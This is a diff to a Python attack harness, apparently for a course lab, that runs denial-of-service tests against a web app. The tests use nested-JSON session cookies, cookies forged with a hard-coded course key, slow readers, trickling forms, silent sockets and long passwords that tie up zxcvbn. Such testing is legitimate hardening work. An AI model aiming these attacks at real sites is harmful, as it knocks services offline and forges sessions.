@@ -20,8 +20,8 @@ from typing import Callable
 COURSE_KEY = b"5eed9b976f6d5c80fb8bb74b1bcff9f01218a864d0f2dd76143356d3cc36eda8"
 MIB = 1024 * 1024
 
-# Passwords that zxcvbn thinks about for long: every letter may be another.
-LEET = "p4$$w0rd" * 8
+# A password that zxcvbn thinks about for long: every sign may stand for a letter, some for two.
+LEET = "4@8({[<3691!|70$5+7%2" + "password" * 5
 
 
 def encode(data):
@@ -95,6 +95,11 @@ class Attack:
 def cookie_shots(path, cookie):
     """The same GET, again and again."""
     return lambda site: lambda _: [site.send(request("GET", path, b"session=" + cookie))]
+
+
+def forged_shots(path, json):
+    """The same with a cookie that is good under the course's key."""
+    return lambda site: lambda _: [site.send(request("GET", path, b"session=" + forged(json)))]
 
 
 def sign_up_shots(password, confirm):
@@ -209,7 +214,7 @@ def trickle(site, connection, until):
 
 def read_slowly(site, connection, until):
     """A long answer, of which a little is read at a time."""
-    cookie = b"session=" + unsigned(repeated(b'{" t":[]}'))
+    cookie = b"session=" + nested(320, 2000)
     connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     connection.sendall(request("GET", "/inspecteur.json", cookie))
     while time.monotonic() < until and connection.recv(256):
@@ -232,14 +237,23 @@ ATTACKS = (
     Attack("1 tag paths, 10 MB of them", cookie_shots("/inspecteur.json", nested(500, 2000))),
     Attack("1 tag paths, 500 MB", cookie_shots("/inspecteur", nested(5000, 10_000)), 20),
     *(
-        Attack(f"2 1 MiB of {item.decode()}", cookie_shots(path, unsigned(repeated(item))))
+        Attack(f"2 1 MiB of {item.decode()} {path}", cookie_shots(path, unsigned(repeated(item))))
         for item in TAGS
         for path in ("/inspecteur", "/inspecteur.json")
     ),
+    *(
+        Attack(
+            f"2 forged, 1 MiB of {item.decode()} {path}",
+            forged_shots(path, repeated(item)),
+            needs="--lab",
+        )
+        for item in TAGS
+        for path in ("/inspecteur", "/")
+    ),
     Attack("3 forms that trickle", trickle, holds=40),
     Attack("4 slow readers", read_slowly, holds=300),
-    Attack("5 zxcvbn, 64 letters", sign_up_shots(LEET, "x"), 50),
-    Attack("5 zxcvbn, 1,024 letters", sign_up_shots(LEET * 16, "x"), 50),
+    Attack("5 zxcvbn, 61 letters", sign_up_shots(LEET, "x"), 50),
+    Attack("5 zxcvbn, 1,024 letters", sign_up_shots((LEET * 17)[:1024], "x"), 50),
     Attack("6 sign-ups", sign_up_shots("a long and fine password", "a long and fine password"), 300),
     Attack("6 sign-ins, left", sign_in_shots, 300),
     Attack("7 silent sockets", stay_silent, holds=1100),
